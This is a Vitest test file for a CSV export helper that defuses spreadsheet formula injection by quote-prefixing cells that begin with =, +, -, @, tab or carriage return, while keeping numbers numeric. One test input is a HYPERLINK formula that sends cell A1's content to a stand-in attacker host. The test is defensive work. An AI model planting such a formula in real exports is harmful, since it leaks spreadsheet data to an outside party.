/** CSV cells a spreadsheet would evaluate are written as text; numbers stay numbers. */
import { describe, expect, it } from 'vitest';
import { inertCell, toCsv, yuanCell } from '../../shared/http/csv.ts';

describe('inert CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`],
    ['+86 cmd', "'+86 cmd"],
    ['-卓玛', "'-卓玛"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('a person or office named %j is text', (name, cell) => {
    expect(inertCell(name)).toBe(cell);
  });

  it('keeps numbers, negative amounts and percentages numeric, and ordinary names as they are', () => {
    expect(inertCell(yuanCell(-1234))).toBe('-12.34');
    expect(inertCell('-5')).toBe('-5');
    expect(inertCell('95.23%')).toBe('95.23%');
    expect(inertCell(42)).toBe('42');
    expect(inertCell('次仁卓玛')).toBe('次仁卓玛');
    expect(inertCell(undefined)).toBe('');
  });

  it('quotes a neutralised cell that holds commas or quotes, so the file stays one cell per field', () => {
    const csv = toCsv([{ header: '姓名', value: (r: { name: string }) => r.name }], [{ name: '=1,2' }]);
    expect(csv).toBe('\uFEFF姓名\r\n"\'=1,2"\r\n');
  });
});
